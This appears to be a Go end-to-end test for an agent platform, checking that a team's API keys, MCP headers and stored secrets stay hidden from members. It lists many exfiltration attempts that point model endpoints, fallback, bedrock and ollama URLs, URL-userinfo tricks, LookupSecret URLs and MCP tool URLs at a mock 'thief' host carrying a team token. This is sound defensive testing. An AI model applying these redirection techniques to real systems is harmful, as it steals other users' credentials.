package e2e_test

import (
	"fmt"
	"maps"
	"net/http"
	"strings"
	"testing"
)

// loot is what a team keeps for its Developers to use, and for none of them to see or to take elsewhere.
type loot struct {
	*house
	b                                           *bank
	key, profileKey, connectionKey              string // of models
	header, variable, extra, secret, connection string
}

// newLoot has ada keep one secret in each place that there is.
func newLoot(t *testing.T, b *bank) *loot {
	t.Helper()
	l := &loot{house: b.newHouse(t, "Treasury"), b: b}
	for _, value := range []*string{&l.key, &l.profileKey, &l.connectionKey, &l.header, &l.variable, &l.extra, &l.secret} {
		*value = b.plant(b.ada)
	}
	keep := func(status int, method, path string, body any) answer {
		return l.ada.want(status, l.ada.with(l.keep, method, path, body))
	}
	keep(200, "PATCH", "/api/settings", map[string]any{"agent_settings_diff": map[string]any{"llm": b.provider.model(l.key)}})
	keep(201, "POST", "/api/profiles/teams", map[string]any{"llm": b.provider.model(l.profileKey)})
	fancy := b.provider.model(l.profileKey)
	fancy["extra_headers"] = map[string]any{"X-Extra": l.extra}
	keep(201, "POST", "/api/profiles/fancy", map[string]any{"llm": fancy})
	l.connection = l.ada.field(keep(201, "POST", "/api/llm/provider-connections", map[string]any{
		"display_name": "shared", "provider": "openai", "base_url": b.provider.url, "api_key": l.connectionKey,
	}), "id")
	keep(201, "POST", "/api/profiles/linked", map[string]any{"llm": map[string]any{"model": "openai/scripted", "provider_connection_id": l.connection}})
	keep(201, "POST", "/api/settings/mcp/tools", map[string]any{"url": b.provider.tools(), "headers": map[string]any{"Authorization": "Bearer " + l.header}})
	keep(201, "POST", "/api/settings/mcp/local", map[string]any{"command": "true", "env": map[string]any{"TOKEN": l.variable}, "enabled": false})
	keep(200, "PUT", "/api/settings/secrets", map[string]any{"name": "TEAM_TOKEN", "value": l.secret})
	keep(201, "POST", "/api/agent-profiles/teams", map[string]any{"llm_profile_ref": "teams"})
	return l
}

func teamsKeyStays(t *testing.T, b *bank) {
	l := newLoot(t, b)
	settings := l.settingsOf(l.ben)

	id := l.ben.starts(talkWith(map[string]any{}, "run: echo from-the-team-$((40+2))"))
	b.provider.ranWith(t, id, l.key)
	if said := l.ben.events(id); !strings.Contains(said, "from-the-team-42") {
		t.Errorf("the agent did not work with the team's model: %.2000s", said)
	}
	id = l.ben.starts(talkWith(settings, "run: true")) // as the page does it
	b.provider.ranWith(t, id, l.key)
	b.provider.sawTools(t, l.header)

	l.readsAll(t, l.ben)
	l.readsAll(t, l.vic)
	l.leadsAway(t, id, settings)
	for _, k := range b.thief.knocks() {
		for value, whose := range b.secrets() {
			if whose == b.ada.name && strings.Contains(k.all, value) {
				t.Errorf("the thief was brought a secret of the team: %s", k.all)
			}
		}
	}
}

// settingsOf are the agent's settings as the page gets them before it makes a conversation.
func (l *loot) settingsOf(c *client) map[string]any {
	var shown struct {
		Agent map[string]any `json:"agent_settings"`
	}
	c.want(http.StatusOK, c.reading("encrypted", "/api/settings")).json(c.t, &shown)
	return shown.Agent
}

// readsAll reads whatever there is, in every form. That no secret comes with it is judged with all other answers at the end.
func (l *loot) readsAll(t *testing.T, c *client) {
	t.Helper()
	for _, path := range []string{
		"/api/settings", "/api/profiles", "/api/profiles/teams", "/api/profiles/fancy", "/api/profiles/linked", "/api/llm/provider-connections",
		"/api/agent-profiles", "/api/agent-profiles/teams", "/api/settings/secrets", "/api/llm-configurations",
	} {
		for _, form := range []string{"", "encrypted", "true", "plaintext", "PLAINTEXT"} {
			a := c.reading(form, path)
			if refused := a.status == http.StatusForbidden && c == l.vic && strings.EqualFold(form, "plaintext"); a.status != http.StatusOK && !refused {
				t.Errorf("%s as %q: %d %.300s", path, form, a.status, a.body)
			}
		}
	}
	if a := c.reading("plaintext", "/api/settings/secrets/TEAM_TOKEN"); (a.status == http.StatusForbidden) != (c == l.vic) || c != l.vic && !strings.HasPrefix(a.body, "ohv1.") {
		c.t.Errorf("what stands for a secret of the team's: %d %.100s", a.status, a.body)
	}
	if a := c.post("/api/agent-profiles/teams/materialize", nil); a.status != http.StatusOK || !strings.Contains(a.body, `"llm_api_key_set":true`) {
		t.Errorf("the profile of the agent: %d %.300s", a.status, a.body)
	}
}

// leadsAway has ben try to have a key of the team's sent to the thief, in every way in which an address and a key can be brought
// together. A try is refused, or goes on without the key.
func (l *loot) leadsAway(t *testing.T, talk string, settings map[string]any) {
	token := fmt.Sprint(settings["llm"].(map[string]any)["api_key"])
	thief := l.b.thief
	away := map[string]map[string]any{
		"the token":      thief.model(token),
		"a mask":         thief.model("**********"),
		"no key":         {"model": "openai/scripted", "base_url": thief.url},
		"the connection": {"model": "openai/scripted", "base_url": thief.url, "provider_connection_id": l.connection},
		"a user's part":  {"model": "openai/scripted", "base_url": strings.Replace(l.b.provider.url, "/v1", "@", 1) + strings.TrimPrefix(thief.url, "http://"), "api_key": token},
		"the fallback": {"model": "openai/scripted", "base_url": l.b.provider.url, "api_key": token,
			"fallback_strategy": map[string]any{"fallback_llms": []any{"mine"}, "profile_store_dir": "/"}},
		"another endpoint": {"model": "bedrock/scripted", "base_url": l.b.provider.url, "aws_bedrock_runtime_endpoint": thief.url, "api_key": token},
		"another host":     {"model": "ollama/scripted", "base_url": l.b.provider.url, "ollama_base_url": thief.url, "api_key": token},
	}
	for name, llm := range away {
		l.leads(t, name, talk, token, llm)
	}
	l.leadsOthersAway(t, talk, settings)
}

// leads tries one way, wherever a model may stand.
func (l *loot) leads(t *testing.T, name, talk, token string, llm map[string]any) {
	t.Helper()
	var made []string
	try := func(how string, a answer) bool {
		t.Helper()
		if a.status >= 500 {
			t.Errorf("%s, %s: %d %.300s", name, how, a.status, a.body)
		}
		if a.status == http.StatusCreated && strings.Contains(a.body, `"execution_status"`) {
			made = append(made, l.ben.field(a, "id"))
		}
		return a.status < 300
	}
	create := func(member string, value any) answer {
		body := talkWith(nil, "say: hello")
		delete(body, "agent_settings")
		body[member] = value
		return l.ben.post("/api/conversations", body)
	}
	try("a create", create("agent_settings", map[string]any{"llm": llm}))
	try("a create with an agent", create("agent", map[string]any{"kind": "Agent", "llm": llm, "tools": []any{}}))
	try("a create with a condenser", create("agent", map[string]any{"kind": "Agent", "llm": l.b.provider.model(token), "condenser": map[string]any{
		"kind": "LLMSummarizingCondenser", "max_size": 20, "keep_first": 1, "llm": llm}}))
	try("a switch", l.ben.post("/api/conversations/"+talk+"/switch_llm", map[string]any{"llm": llm}))
	try("a test of a profile", l.ben.post("/api/profiles/mine/validate", map[string]any{"llm": llm}))
	if try("a patch", l.ben.patches(map[string]any{"llm": llm})) {
		try("a create after it", create("agent_settings", l.settingsOf(l.ben)))
		if name == "no key" {
			try("a create that leaves the model to us", create("agent_settings", map[string]any{}))
		}
		try("the patch back", l.ben.patches(map[string]any{"llm": nil}))
	}
	if try("a profile in the place of the team's", l.ben.post("/api/profiles/teams", map[string]any{"llm": llm})) {
		try("a switch of profiles", l.ben.post("/api/conversations/"+talk+"/switch_profile", map[string]any{"profile_name": "teams"}))
		try("an agent's profile", l.ben.post("/api/agent-profiles/mine", map[string]any{"llm_profile_ref": "teams"}))
		try("a look at what becomes of it", l.ben.post("/api/agent-profiles/mine/materialize", nil))
		try("a create with it", create("agent_profile_id", l.agentProfile(l.ben, "mine")))
		try("an activated profile", l.ben.post("/api/profiles/teams/activate", nil))
		try("a create after that", create("agent_settings", l.settingsOf(l.ben)))
		try("the agent's profile away", l.ben.send("DELETE", "/api/agent-profiles/mine", nil, ""))
		try("the profile away", l.ben.send("DELETE", "/api/profiles/teams", nil, ""))
	}
	for _, id := range made {
		l.ends(t, id)
	}
}

// leadsOthersAway is leadsAway for what is no model's key, and for ways of one's own.
func (l *loot) leadsOthersAway(t *testing.T, talk string, settings map[string]any) {
	thief := l.b.thief
	l.ben.want(http.StatusForbidden, l.ben.with(l.keep, "PATCH", "/api/settings", map[string]any{
		"agent_settings_diff": map[string]any{"llm": map[string]any{"base_url": thief.url}}}))
	l.ben.want(http.StatusForbidden, l.ben.json("PATCH", "/api/llm/provider-connections/"+l.connection, map[string]any{"base_url": thief.url}))
	l.ben.want(http.StatusUnprocessableEntity, l.ben.post("/api/conversations/"+talk+"/secrets", map[string]any{
		"secrets": map[string]any{"TEAM_TOKEN": map[string]any{"kind": "LookupSecret", "url": thief.url + "/x", "headers": map[string]any{"A": "b"}}}}))

	servers, _ := settings["mcp_config"].(map[string]any)
	sent, _ := servers["tools"].(map[string]any)
	elsewhere := maps.Clone(sent)
	elsewhere["url"] = thief.tools()
	l.ben.want(http.StatusUnprocessableEntity, l.ben.post("/api/conversations", talkWith(map[string]any{"mcp_config": map[string]any{"tools": elsewhere}}, "say: hello")))
	l.ben.want(http.StatusOK, l.ben.json("PATCH", "/api/settings/mcp/tools", map[string]any{"url": thief.tools()}))
	l.ben.starts(talkWith(l.settingsOf(l.ben), "say: hello"))
	if got := l.b.thief.knocks(); len(got) == 0 || got[len(got)-1].path != "/mcp" {
		t.Errorf("ben's own server of tools was not asked: %v", got)
	}
	l.ben.want(http.StatusOK, l.ben.send("DELETE", "/api/settings/mcp/tools", nil, ""))

	own := l.b.plant(l.b.ben) // a key of one's own goes wherever one says
	id := l.ben.starts(talkWith(map[string]any{"llm": thief.model(own)}, "say: hello"))
	thief.ranWith(t, id, own)
	fork := l.ben.field(l.ben.want(http.StatusCreated, l.ben.post("/api/conversations/"+id+"/fork", map[string]any{})), "id")
	l.ben.want(http.StatusOK, l.ben.post("/api/conversations/"+fork+"/events", map[string]any{
		"role": "user", "content": said("say: hello")["content"], "run": true}))
	l.ends(t, fork)
	thief.ranWith(t, fork, "unused")
}

// agentProfile is the id of an agent profile; that of none where there is none.
func (l *loot) agentProfile(c *client, name string) string {
	var shown struct{ Profile struct{ ID string } }
	if a := c.get("/api/agent-profiles/" + name); a.status == http.StatusOK {
		a.json(c.t, &shown)
		return shown.Profile.ID
	}
	return "00000000-0000-4000-8000-000000000000"
}

// ends waits until an agent does no more, however it went.
func (l *loot) ends(t *testing.T, id string) {
	t.Helper()
	within(t, 60e9, "the agent ends", func() error {
		a := l.ben.get("/api/conversations/" + id)
		if status := l.ben.field(a, "execution_status"); status == "running" || status == "idle" {
			return fmt.Errorf("it is %s", status)
		}
		return nil
	})
}
